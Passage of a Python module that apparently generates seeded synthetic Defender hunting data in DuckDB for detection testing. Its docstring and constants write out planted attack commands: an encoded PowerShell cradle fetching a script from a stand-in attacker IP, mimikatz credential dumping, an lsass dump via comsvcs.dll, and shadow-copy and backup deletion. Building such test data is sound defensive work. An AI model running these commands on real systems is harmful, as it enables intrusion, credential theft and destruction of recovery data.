"""Deterministic, seeded advanced-hunting data, generated inside DuckDB.

Each event table is a view over ``range(n)``: every value is a function of the row number and a seed derived
from the tenant id (``hash(i, seed, key)``), computed when a query reads it, so a million rows per table cost
neither build time nor memory, and the same tenant always gets the same data (timestamps are relative to the
tenant's anchor time). Planted rows live in small ``_planted_<table>`` tables appended to the views.

On top of the noise, :func:`plant_stories` plants attack stories that real hunting queries find (times:
:func:`story_times`, relative to the tenant's anchor; device names end in ``.<tenant>.local``):

* ``phish`` — a phishing mail with a macro document to Megan Bowen, opened on ``ws-fin-07``; Word starts an
  encoded PowerShell download cradle (``-enc``) that fetches ``http://198.51.100.23/a.ps1``.
* ``creds`` — 45 minutes later, on ``ws-fin-07``: ``mimikatz.exe sekurlsa::logonpasswords`` and an lsass
  MiniDump through ``comsvcs.dll``.
* ``ransom`` — the next night (about 17 hours later), on ``srv-file-02``: a remote logon from ``ws-fin-07``,
  ``vssadmin delete shadows /all /quiet``, ``wbadmin delete catalog``, ``bcdedit ... recoveryenabled No``,
  then mass renames to ``*.locked`` and a ransom note.
* ``spray`` — a password spray against many accounts from ``203.0.113.50`` (IdentityLogonEvents).
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import uuid

from .tables import DUCKDB_TYPE, EVENT_TABLES, TABLES

UTC = dt.timezone.utc

ATTACKER_IP = "198.51.100.23"
SPRAY_IP = "203.0.113.50"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"
CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-16-le")).decode("ascii")


def seed_of(tenant_id: str) -> int:
    return int(hashlib.sha256(tenant_id.encode()).hexdigest()[:8], 16) % 1_000_000


def _h(*parts: object, n: int = 64) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:n]


def _guid(*parts: object) -> str:
    return str(uuid.UUID(_h(*parts, n=32)))


def _q(value: object) -> str:
    """A SQL literal."""
    if value is None:
        return "NULL"
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (int, float)):
        return repr(value)
    return "'" + str(value).replace("'", "''") + "'"


def _list(values: list) -> str:
    return "[" + ", ".join(_q(v) for v in values) + "]"


# --- dimensions -------------------------------------------------------------------------------------------

DEVICES = [
    # name, platform, os version, build, type, group
    ("ws-fin-07", "Windows11", "10.0", 22631, "Workstation", "Finance"),
    ("ws-fin-02", "Windows11", "10.0", 22631, "Workstation", "Finance"),
    ("ws-hr-03", "Windows10", "10.0", 19045, "Workstation", "HR"),
    ("ws-hr-05", "Windows10", "10.0", 19045, "Workstation", "HR"),
    ("ws-dev-12", "Windows11", "10.0", 22631, "Workstation", "Engineering"),
    ("ws-dev-14", "Windows11", "10.0", 22631, "Workstation", "Engineering"),
    ("ws-dev-21", "Windows10", "10.0", 19045, "Workstation", "Engineering"),
    ("ws-sales-04", "Windows11", "10.0", 22631, "Workstation", "Sales"),
    ("ws-sales-09", "Windows10", "10.0", 19045, "Workstation", "Sales"),
    ("ws-exec-01", "Windows11", "10.0", 22631, "Workstation", "Executives"),
    ("ws-it-02", "Windows11", "10.0", 22631, "Workstation", "IT"),
    ("lt-mkt-06", "Windows11", "10.0", 22631, "Workstation", "Marketing"),
    ("lt-mkt-08", "Windows10", "10.0", 19045, "Workstation", "Marketing"),
    ("mac-design-02", "macOS", "14.4", 23, "Workstation", "Marketing"),
    ("mac-design-03", "macOS", "14.4", 23, "Workstation", "Marketing"),
    ("srv-dc-01", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-dc-02", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-file-02", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("srv-sql-01", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("srv-app-03", "WindowsServer2022", "10.0", 20348, "Server", "Servers"),
    ("srv-exch-01", "WindowsServer2019", "10.0", 17763, "Server", "Servers"),
    ("lnx-web-01", "Linux", "22.04", 0, "Server", "Linux"),
    ("lnx-web-02", "Linux", "22.04", 0, "Server", "Linux"),
    ("lnx-build-01", "Linux", "20.04", 0, "Server", "Linux"),
]

USERS = [
    ("megan.bowen", "Megan Bowen", "Finance", "Accountant"),
    ("adele.vance", "Adele Vance", "Sales", "Account Manager"),
    ("alex.wilber", "Alex Wilber", "Marketing", "Marketing Assistant"),
    ("diego.siciliani", "Diego Siciliani", "HR", "HR Manager"),
    ("grady.archie", "Grady Archie", "Engineering", "Designer"),
    ("isaiah.langer", "Isaiah Langer", "Sales", "Sales Rep"),
    ("johanna.lorenz", "Johanna Lorenz", "Engineering", "Senior Engineer"),
    ("joni.sherman", "Joni Sherman", "Legal", "Paralegal"),
    ("lee.gu", "Lee Gu", "Engineering", "Director"),
    ("lidia.holloway", "Lidia Holloway", "Engineering", "Product Manager"),
    ("lynne.robbins", "Lynne Robbins", "Finance", "Planner"),
    ("miriam.graham", "Miriam Graham", "Executives", "Director"),
    ("nestor.wilke", "Nestor Wilke", "IT", "Director"),
    ("patti.fernandez", "Patti Fernandez", "Executives", "President"),
    ("pradeep.gupta", "Pradeep Gupta", "Finance", "Accountant"),
    ("svc-backup", "Backup service", "IT", "Service account"),
    ("svc-sql", "SQL service", "IT", "Service account"),
    ("adm-nestor", "Nestor Wilke (admin)", "IT", "Administrator"),
]

# file name, folder, command line, company, product, description, size
PROCESSES = [
    ("svchost.exe", r"C:\Windows\System32", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Services", 55320),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application",
     '"chrome.exe" --type=renderer --lang=en-US', "Google LLC", "Google Chrome", "Google Chrome", 2906648),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application",
     '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "Microsoft Corporation",
     "Microsoft Edge", "Microsoft Edge", 3942808),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", '"OUTLOOK.EXE" ',
     "Microsoft Corporation", "Microsoft Outlook", "Microsoft Outlook", 43256680),
    ("Teams.exe", r"C:\Users\Public\AppData\Local\Microsoft\Teams\current", '"Teams.exe" --system-initiated',
     "Microsoft Corporation", "Microsoft Teams", "Microsoft Teams", 129554312),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     'powershell.exe -ExecutionPolicy Bypass -File "C:\\ProgramData\\IT\\inventory.ps1"',
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell", 450560),
    ("cmd.exe", r"C:\Windows\System32", 'cmd.exe /c "ipconfig /all"', "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Windows Command Processor", 289792),
    ("conhost.exe", r"C:\Windows\System32", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Console Window Host", 867328),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
     '"MsMpEng.exe"', "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "Antimalware Service Executable", 133096),
    ("SenseNdr.exe", r"C:\Program Files\Windows Defender Advanced Threat Protection",
     '"SenseNdr.exe"', "Microsoft Corporation", "Microsoft Defender for Endpoint",
     "Windows Defender Advanced Threat Protection Network Detection and Response", 1321984),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
     '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\Quarterly report.docx"', "Microsoft Corporation",
     "Microsoft Office", "Microsoft Word", 1639816),
    ("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
     '"EXCEL.EXE" "C:\\Users\\Public\\Documents\\Budget.xlsx"', "Microsoft Corporation", "Microsoft Office",
     "Microsoft Excel", 63275912),
    ("explorer.exe", r"C:\Windows", r"C:\Windows\Explorer.EXE", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Windows Explorer", 5573656),
    ("rundll32.exe", r"C:\Windows\System32", r"rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows host process (Rundll32)", 71680),
    ("schtasks.exe", r"C:\Windows\System32", r'schtasks.exe /query /fo LIST /v', "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Task Scheduler Configuration Tool", 235008),
    ("net.exe", r"C:\Windows\System32", "net.exe use", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "Net Command", 57344),
    ("wmiprvse.exe", r"C:\Windows\System32\wbem", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
     "Microsoft Corporation", "Microsoft® Windows® Operating System", "WMI Provider Host", 523776),
    ("sqlservr.exe", r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn",
     '"sqlservr.exe" -sMSSQLSERVER', "Microsoft Corporation", "Microsoft SQL Server", "SQL Server Windows NT",
     475632),
    ("git.exe", r"C:\Program Files\Git\cmd", "git.exe fetch --all", "The Git Development Community", "Git",
     "Git for Windows", 45584),
    ("code.exe", r"C:\Users\Public\AppData\Local\Programs\Microsoft VS Code", '"Code.exe" --type=utility',
     "Microsoft Corporation", "Visual Studio Code", "Visual Studio Code", 158323120),
    ("bash", "/usr/bin", "/bin/bash -c 'apt-get update'", "", "", "", 1396520),
    ("curl", "/usr/bin", "curl -s https://packages.microsoft.com/config/ubuntu/22.04/prod.list", "", "", "",
     260328),
    ("python3", "/usr/bin", "python3 /opt/app/worker.py --queue default", "", "", "", 5904904),
    ("nginx", "/usr/sbin", "nginx: worker process", "", "", "", 1190896),
]

PARENTS = ["explorer.exe", "services.exe", "svchost.exe", "userinit.exe", "wininit.exe", "cmd.exe"]

DOCUMENTS = [
    ("Quarterly report.docx", "docx"), ("Budget 2026.xlsx", "xlsx"), ("Board deck.pptx", "pptx"),
    ("Invoice-3321.pdf", "pdf"), ("notes.txt", "txt"), ("setup.exe", "exe"), ("update.msi", "msi"),
    ("payroll.csv", "csv"), ("contract.pdf", "pdf"), ("logo.png", "png"), ("archive.zip", "zip"),
    ("helper.dll", "dll"),
]

DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "ws2_32.dll",
        "crypt32.dll", "wininet.dll", "amsi.dll", "clr.dll", "System.Management.Automation.ni.dll",
        "mscoree.dll", "vaultcli.dll", "samlib.dll", "dbghelp.dll"]

URLS = ["www.bing.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com",
        "github.com", "update.googleapis.com", "settings-win.data.microsoft.com", "ctldl.windowsupdate.com",
        "www.linkedin.com", "contoso.sharepoint.com", "api.github.com", "pypi.org", "files.pythonhosted.org",
        "cdn.jsdelivr.net", "wpad.contoso.local"]

SENDER_DOMAINS = ["fabrikam.com", "northwindtraders.com", "tailspintoys.com", "adatum.com", "litwareinc.com",
                  "wingtiptoys.com", "newsletter.contoso-partners.com", "mail.linkedin.com"]
SUBJECTS = ["Weekly status", "Re: Q3 planning", "Invoice attached", "Lunch on Friday?", "Your order has shipped",
            "Meeting notes", "FW: contract draft", "Action required: password expiry", "Newsletter - November",
            "Team offsite agenda", "Re: budget review", "Shared document: roadmap"]

REG_KEYS = [r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinDefend",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender",
            r"HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Security",
            r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Lsa",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"]

ACTIONS = {
    "DeviceProcessEvents": ["ProcessCreated"],
    "DeviceNetworkEvents": ["ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
                            "InboundConnectionAccepted", "ListeningConnectionCreated", "ConnectionRequest"],
    "DeviceFileEvents": ["FileCreated", "FileCreated", "FileModified", "FileModified", "FileDeleted",
                         "FileRenamed"],
    "DeviceEvents": ["PowerShellCommand", "ScheduledTaskCreated", "UsbDriveMounted", "SmartScreenUrlWarning",
                     "AntivirusDetection", "ExploitGuardNetworkProtectionBlocked", "AsrOfficeChildProcessAudited",
                     "LdapSearch", "NamedPipeEvent", "CreateRemoteThreadApiCall", "OpenProcessApiCall",
                     "DnsQueryResponse", "ServiceInstalled", "ProcessCreatedUsingWmiQuery",
                     "BrowserLaunchedToOpenUrl", "FirewallInboundConnectionBlocked", "DpapiAccessed",
                     "GetClipboardData", "ReadProcessMemoryApiCall", "UserAccountCreated"],
    "DeviceLogonEvents": ["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted"],
    "DeviceRegistryEvents": ["RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryKeyDeleted",
                             "RegistryValueDeleted"],
    "DeviceImageLoadEvents": ["ImageLoaded"],
    "IdentityLogonEvents": ["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed"],
    "IdentityQueryEvents": ["LDAP query", "DNS query", "SAMR query", "SAM-R query"],
    "IdentityDirectoryEvents": ["Group Membership changed", "Account Password changed", "Account enabled",
                                "Account Disabled changed", "Directory Services replication"],
    "EmailPostDeliveryEvents": ["Phish ZAP", "Malware ZAP", "Manual Remediation"],
    "UrlClickEvents": ["ClickAllowed", "ClickAllowed", "ClickAllowed", "ClickBlocked", "UrlScanInProgress"],
    "CloudAppEvents": ["FileDownloaded", "FileAccessed", "FileUploaded", "MailItemsAccessed", "Send",
                       "New-InboxRule", "Set-Mailbox", "Add member to role.", "Consent to application.",
                       "UserLoggedIn", "MessageSent"],
}


class Dimensions:
    """Per-tenant devices, users and processes, as Python rows and as DuckDB lookup tables."""

    def __init__(self, tenant_id: str, domain: str) -> None:
        self.tenant_id = tenant_id
        self.domain = domain
        short = domain.split(".")[0].lower()
        self.ad_domain = short.upper()
        self.dns_suffix = f"{short}.local"
        self.devices = []
        for k, (name, platform, version, build, dtype, group) in enumerate(DEVICES):
            self.devices.append({
                "idx": k, "DeviceId": _h(tenant_id, "device", name, n=40), "DeviceName": f"{name}.{self.dns_suffix}",
                "Short": name, "OSPlatform": platform, "OSVersion": version, "OSBuild": build,
                "DeviceType": dtype, "MachineGroup": group,
                "LocalIP": f"10.{1 + k // 50}.{10 + (k % 5) * 10}.{20 + k}",
                "PublicIP": f"20.{(seed_of(tenant_id) % 200) + 10}.{k % 7 + 1}.{100 + k}",
                "AadDeviceId": _guid(tenant_id, "aad", name),
            })
        self.users = []
        rid = 1100 + seed_of(tenant_id) % 500
        for k, (name, display, dept, title) in enumerate(USERS):
            self.users.append({
                "idx": k, "AccountName": name, "AccountDomain": self.ad_domain, "DisplayName": display,
                "Upn": f"{name}@{domain}", "ObjectId": _guid(tenant_id, "user", name),
                "Sid": f"S-1-5-21-{1000000000 + seed_of(tenant_id)}-3562211071-1451298153-{rid + k}",
                "Department": dept, "JobTitle": title,
            })
        self.processes = []
        for k, (fname, folder, cmd, company, product, desc, size) in enumerate(PROCESSES):
            self.processes.append({
                "idx": k,
                "FileName": fname,
                "FolderPath": f"{folder}\\{fname}" if "\\" in folder else f"{folder}/{fname}",
                "CommandLine": cmd, "Company": company, "Product": product, "Description": desc,
                "Version": "10.0.22621.1" if company.startswith("Microsoft") else "1.0.0", "FileSize": size,
                "SHA1": _h("sha1", fname, n=40), "SHA256": _h("sha256", fname), "MD5": _h("md5", fname, n=32),
            })

    def device(self, short: str) -> dict:
        return next(d for d in self.devices if d["Short"] == short)

    def user(self, name: str) -> dict:
        return next(u for u in self.users if u["AccountName"] == name)

    def process(self, fname: str) -> dict:
        return next(p for p in self.processes if p["FileName"] == fname)

    def create_lookup_tables(self, con) -> None:
        for name, rows in (("_dev", self.devices), ("_usr", self.users), ("_proc", self.processes)):
            cols = list(rows[0])
            values = ", ".join("(" + ", ".join(_q(r[c]) for c in cols) + ")" for r in rows)
            con.execute(f'CREATE OR REPLACE TABLE {name} ({", ".join(c for c in cols)}) AS '
                        f"SELECT * FROM (VALUES {values})")


# --- bulk rows ---------------------------------------------------------------------------------------------

def _pick(values: list, key: str) -> str:
    return f"{_list(values)}[1 + (hash(b.i, b.seed, {_q(key)}) % {len(values)})::INTEGER]"


def _num(key: str, lo: int, span: int) -> str:
    return f"({lo} + (hash(b.i, b.seed, {_q(key)}) % {span})::BIGINT)"


def _public_ip(key: str) -> str:
    return (f"concat(20 + (hash(b.i, b.seed, {_q(key)}) % 180), '.', (hash(b.i, b.seed, {_q(key)}) >> 8) % 256, "
            f"'.', (hash(b.i, b.seed, {_q(key)}) >> 16) % 256, '.', 1 + (hash(b.i, b.seed, {_q(key)}) >> 24) % 254)")


def _email_id(key: str) -> str:
    m = f"md5(concat(b.seed, {_q(key)}, b.i))"
    return (f"concat(substr({m},1,8),'-',substr({m},9,4),'-',substr({m},13,4),'-',substr({m},17,4),'-',"
            f"substr({m},21,12))")


def _column_expr(table: str, col: str, kind: str, dims: Dimensions) -> str:  # noqa: C901 - a lookup table
    """The SQL expression that fills *col* of a bulk row (aliases: b base, d device, u user, p/q process)."""
    email = table.startswith("Email") or table == "UrlClickEvents"
    by_name = {
        "Timestamp": "b.ts",
        "DeviceId": "d.DeviceId", "DeviceName": "d.DeviceName", "LocalIP": "d.LocalIP",
        "AccountName": "u.AccountName", "AccountDomain": "u.AccountDomain", "AccountSid": "u.Sid",
        "AccountUpn": "u.Upn", "AccountObjectId": "u.ObjectId", "AccountDisplayName": "u.DisplayName",
        "InitiatingProcessAccountDomain": "u.AccountDomain", "InitiatingProcessAccountName": "u.AccountName",
        "InitiatingProcessAccountSid": "u.Sid", "InitiatingProcessAccountUpn": "u.Upn",
        "InitiatingProcessAccountObjectId": "u.ObjectId",
        "FileName": "p.FileName", "FolderPath": "p.FolderPath", "SHA1": "p.SHA1", "SHA256": "p.SHA256",
        "MD5": "p.MD5", "FileSize": "p.FileSize", "ProcessCommandLine": "p.CommandLine",
        "ProcessVersionInfoCompanyName": "p.Company", "ProcessVersionInfoProductName": "p.Product",
        "ProcessVersionInfoProductVersion": "p.Version", "ProcessVersionInfoInternalFileName": "p.FileName",
        "ProcessVersionInfoOriginalFileName": "p.FileName", "ProcessVersionInfoFileDescription": "p.Description",
        "InitiatingProcessFileName": "q.FileName", "InitiatingProcessFolderPath": "q.FolderPath",
        "InitiatingProcessSHA1": "q.SHA1", "InitiatingProcessSHA256": "q.SHA256", "InitiatingProcessMD5": "q.MD5",
        "InitiatingProcessFileSize": "q.FileSize", "InitiatingProcessCommandLine": "q.CommandLine",
        "InitiatingProcessVersionInfoCompanyName": "q.Company",
        "InitiatingProcessVersionInfoProductName": "q.Product",
        "InitiatingProcessVersionInfoProductVersion": "q.Version",
        "InitiatingProcessVersionInfoInternalFileName": "q.FileName",
        "InitiatingProcessVersionInfoOriginalFileName": "q.FileName",
        "InitiatingProcessVersionInfoFileDescription": "q.Description",
        "InitiatingProcessParentFileName": _pick(PARENTS, "parent"),
        "ProcessId": _num("pid", 1000, 60000), "InitiatingProcessId": _num("ipid", 1000, 60000),
        "InitiatingProcessParentId": _num("ppid", 400, 6000), "LogonId": _num("logon", 100000, 900000),
        "InitiatingProcessLogonId": _num("logon", 100000, 900000),
        "ProcessCreationTime": "b.ts", "InitiatingProcessCreationTime": "(b.ts - INTERVAL 7 MINUTE)",
        "InitiatingProcessParentCreationTime": "(b.ts - INTERVAL 3 HOUR)",
        "ProcessIntegrityLevel": _pick(["Medium", "Medium", "High", "System"], "il"),
        "InitiatingProcessIntegrityLevel": _pick(["Medium", "Medium", "High", "System"], "iil"),
        "ProcessTokenElevation": _pick(["TokenElevationTypeDefault", "TokenElevationTypeLimited",
                                        "TokenElevationTypeFull"], "te"),
        "InitiatingProcessTokenElevation": _pick(["TokenElevationTypeDefault", "TokenElevationTypeLimited"], "ite"),
        "InitiatingProcessSignerType": _pick(["OsVendor", "Microsoft", "ThirdParty"], "sig"),
        "InitiatingProcessSignatureStatus": "'Valid'",
        "InitiatingProcessSessionId": _num("sess", 0, 3), "IsInitiatingProcessRemoteSession": "FALSE",
        "ReportId": "(b.i + 1000)" if kind == "long" else "CAST(b.i + 1000 AS VARCHAR)",
        "RemoteIP": _public_ip("rip"), "RemotePort": _list([443, 443, 443, 80, 445, 3389, 53, 135, 8080, 22]) +
        "[1 + (hash(b.i, b.seed, 'rport') % 10)::INTEGER]",
        "RemoteUrl": _pick(URLS, "url"), "LocalPort": "(49152 + (hash(b.i, b.seed, 'lport') % 16000))::INTEGER",
        "LocalIPType": "'Private'", "RemoteIPType": "'Public'",
        "ActionType": _pick(ACTIONS.get(table, [""]), "action"),
        "AppGuardContainerId": "''",
        "OSPlatform": "d.OSPlatform",
        "IPAddress": _public_ip("ipaddr"),
        "Isp": _pick(["Contoso ISP", "Fabrikam Telecom", "Tailspin Networks"], "isp"),
        "Location": _pick(["Seattle, WA, US", "London, GB", "Berlin, DE", "Redmond, WA, US"], "loc"),
        "CountryCode": _pick(["US", "US", "GB", "DE", "FR"], "cc"),
        "City": _pick(["Seattle", "Redmond", "London", "Berlin", "Paris"], "city"),
    }
    if email:
        by_name.update({
            "NetworkMessageId": _email_id("nm"),
            "SenderFromAddress": "concat('noreply@', " + _pick(SENDER_DOMAINS, "sd") + ")",
            "SenderMailFromAddress": "concat('bounce@', " + _pick(SENDER_DOMAINS, "sd") + ")",
            "SenderFromDomain": _pick(SENDER_DOMAINS, "sd"), "SenderMailFromDomain": _pick(SENDER_DOMAINS, "sd"),
            "SenderDisplayName": _pick(["Fabrikam Billing", "Northwind", "Tailspin Support", "Adatum HR"], "sdn"),
            "RecipientEmailAddress": "u.Upn", "RecipientObjectId": "u.ObjectId",
            "SHA256": "sha256(concat(b.seed, 'att', b.i))",
        })
    per_table = {
        "DeviceFileEvents": {
            "FileName": _list([f for f, _ in DOCUMENTS]) + "[1 + (hash(b.i, b.seed, 'doc') % "
            f"{len(DOCUMENTS)})::INTEGER]",
            "FolderPath": "concat('C:\\Users\\', u.AccountName, '\\Documents\\', " + _list([f for f, _ in DOCUMENTS])
            + f"[1 + (hash(b.i, b.seed, 'doc') % {len(DOCUMENTS)})::INTEGER])",
            "SHA256": "sha256(concat(b.seed, 'file', hash(b.i, b.seed, 'doc') % 97))",
            "SHA1": "substr(sha256(concat(b.seed, 'f1', hash(b.i, b.seed, 'doc') % 97)), 1, 40)",
            "MD5": "md5(concat(b.seed, 'f5', hash(b.i, b.seed, 'doc') % 97))",
            "FileSize": _num("fsize", 1024, 5_000_000),
            "FileOriginUrl": "''", "FileOriginIP": "''",
        },
        "DeviceImageLoadEvents": {
            "FileName": _pick(DLLS, "dll"), "FolderPath": "concat('C:\\Windows\\System32\\', " +
            _pick(DLLS, "dll") + ")",
            "SHA256": "sha256(" + _pick(DLLS, "dll") + ")", "SHA1": "substr(sha256(" + _pick(DLLS, "dll") + "), 1, 40)",
            "MD5": "md5(" + _pick(DLLS, "dll") + ")",
        },
        "DeviceEvents": {
            "AdditionalFields": "json_object('Command', " + _pick(["Get-Process", "Get-Service", "Import-Module",
                                                                   "Get-ChildItem", "Test-Connection"], "pscmd")
                                + ", 'IsAudit', FALSE)",
        },
        "DeviceLogonEvents": {
            "LogonType": _pick(["Interactive", "RemoteInteractive", "Network", "Network", "Batch", "Service",
                                "Unlock", "CachedInteractive"], "lt"),
            "Protocol": _pick(["Negotiate", "Kerberos", "NTLM"], "proto"),
            "FailureReason": "CASE WHEN " + _pick(ACTIONS["DeviceLogonEvents"], "action") +
            " = 'LogonFailed' THEN 'InvalidUserNameOrPassword' ELSE '' END",
            "IsLocalAdmin": "(hash(b.i, b.seed, 'adm') % 5 = 0)",
            "RemoteDeviceName": "''", "RemoteIP": "concat('10.1.', 10 + hash(b.i, b.seed, 'r') % 40, '.', "
            "20 + hash(b.i, b.seed, 'r2') % 24)", "RemoteIPType": "'Private'",
        },
        "DeviceNetworkEvents": {"Protocol": _pick(["Tcp", "Tcp", "Tcp", "Udp"], "proto")},
        "DeviceRegistryEvents": {
            "RegistryKey": _pick(REG_KEYS, "rk"), "RegistryValueType": _pick(["String", "Dword", "Binary"], "rvt"),
            "RegistryValueName": _pick(["OneDrive", "SecurityHealth", "DisableAntiSpyware", "VBAWarnings",
                                        "RunAsPPL", "Shell", "Teams"], "rvn"),
            "RegistryValueData": _pick(["C:\\Windows\\System32\\SecurityHealthSystray.exe", "1", "0",
                                        "explorer.exe",
                                        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"],
                                       "rvd"),
        },
        "EmailEvents": {
            "InternetMessageId": "concat('<', " + _email_id("nm") + ", '@', " + _pick(SENDER_DOMAINS, "sd") + ", '>')",
            "Subject": _pick(SUBJECTS, "subj"),
            "EmailClusterId": _num("cluster", 10_000_000, 90_000_000),
            "EmailDirection": _pick(["Inbound", "Inbound", "Inbound", "Outbound", "Intra-org"], "dir"),
            "DeliveryAction": _pick(["Delivered"] * 8 + ["Junked", "Blocked"], "da"),
            "DeliveryLocation": _pick(["Inbox/folder"] * 8 + ["Junk folder", "Quarantine"], "da"),
            "LatestDeliveryAction": _pick(["Delivered"] * 8 + ["Junked", "Blocked"], "da"),
            "LatestDeliveryLocation": _pick(["Inbox/folder"] * 8 + ["Junk folder", "Quarantine"], "da"),
            "ThreatTypes": _pick([""] * 8 + ["Spam", "Phish"], "da"),
            "ConfidenceLevel": "''", "BulkComplaintLevel": _num("bcl", 0, 8) + "::INTEGER",
            "AuthenticationDetails": "'{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}'",
            "AttachmentCount": "(CASE WHEN hash(b.i, b.seed, 'att') % 3 = 0 THEN 1 ELSE 0 END)::INTEGER",
            "UrlCount": _num("urls", 0, 4) + "::INTEGER", "EmailLanguage": "'en'",
            "SenderIPv4": _public_ip("sip"), "SenderIPv6": "''",
        },
        "EmailAttachmentInfo": {
            "FileName":
                _list([f for f, _ in DOCUMENTS]) + f"[1 + (hash(b.i, b.seed, 'doc') % {len(DOCUMENTS)})::INTEGER]",
            "FileType":
                _list([t for _, t in DOCUMENTS]) + f"[1 + (hash(b.i, b.seed, 'doc') % {len(DOCUMENTS)})::INTEGER]",
            "FileSize": _num("fsize", 2048, 3_000_000),
        },
        "EmailUrlInfo": {
            "Url": "concat('https://', " + _pick(URLS, "url") + ", '/', hash(b.i, b.seed, 'path') % 10000)",
            "UrlDomain": _pick(URLS, "url"), "UrlLocation": _pick(["Body", "Body", "Attachment", "Subject"], "ul"),
        },
        "IdentityLogonEvents": {
            "Application":
                _pick(["Active Directory", "Active Directory", "Microsoft 365", "Azure Active Directory"], "app"),
            "LogonType":
                _pick(["Credentials Validation", "Resource Access", "Interactive Logon", "Remote Desktop"], "lt"),
            "Protocol": _pick(["Kerberos", "NTLM", "Kerberos", ""], "proto"),
            "FailureReason": "CASE WHEN " + _pick(ACTIONS["IdentityLogonEvents"], "action") +
            " = 'LogonFailed' THEN 'WrongPassword' ELSE '' END",
            "DeviceName": "d.DeviceName",
            "DeviceType": "d.DeviceType",
            "IPAddress": "d.LocalIP",
            "Port": _num("p", 49152, 16000) + "::INTEGER",
            "DestinationDeviceName": "'srv-dc-01." + dims.dns_suffix + "'",
            "DestinationIPAddress": _q(dims.device("srv-dc-01")["LocalIP"]),
            "DestinationPort": _list([88, 389, 445]) + "[1 + (hash(b.i, b.seed, 'dport') % 3)::INTEGER]",
            "TargetDeviceName": "''", "TargetAccountDisplayName": "''",
            "AdditionalFields": "json_object('Spns', 'krbtgt/" + dims.ad_domain + "')",
        },
        "IdentityQueryEvents": {
            "Application": "'Active Directory'", "QueryType": _pick(["AllUsers", "AllGroups", "AllComputers",
                                                                    "A", "SRV", "QueryUser"], "qt"),
            "QueryTarget": "u.AccountName",
            "Query": "concat('(&(objectClass=user)(sAMAccountName=', u.AccountName, '))')",
            "Protocol": _pick(["Ldap", "Dns", "Samr"], "proto"), "DeviceName": "d.DeviceName", "IPAddress": "d.LocalIP",
            "Port": _num("p", 49152, 16000) + "::INTEGER",
            "DestinationDeviceName": "'srv-dc-01." + dims.dns_suffix + "'",
            "DestinationIPAddress": _q(dims.device("srv-dc-01")["LocalIP"]), "DestinationPort": "389",
            "TargetDeviceName": "''", "TargetAccountUpn": "''", "TargetAccountDisplayName": "''",
            "AdditionalFields": "json_object('SourceComputerOperatingSystemType', 'windows')",
        },
        "IdentityDirectoryEvents": {
            "Application": "'Active Directory'",
            "Protocol": "''",
            "DeviceName": "d.DeviceName",
            "IPAddress": "d.LocalIP",
            "TargetAccountUpn": "u.Upn", "TargetAccountDisplayName": "u.DisplayName",
            "DestinationDeviceName": "'srv-dc-01." + dims.dns_suffix + "'", "ISP": "''",
            "AdditionalFields": "json_object('TO.GROUP', " + _pick(["Domain Users", "Finance", "Domain Admins",
                                                                   "Remote Desktop Users"], "grp")
                                + ", 'TARGET_OBJECT.USER', u.AccountName, 'ACTOR.ACCOUNT', 'adm-nestor')",
        },
        "DeviceNetworkInfo": {
            "MacAddress": "upper(substr(md5(d.DeviceId), 1, 12))", "NetworkAdapterName": "'Ethernet'",
            "NetworkAdapterStatus": _pick(["Up", "Up", "Up", "Down"], "nas"), "TunnelType": "'None'",
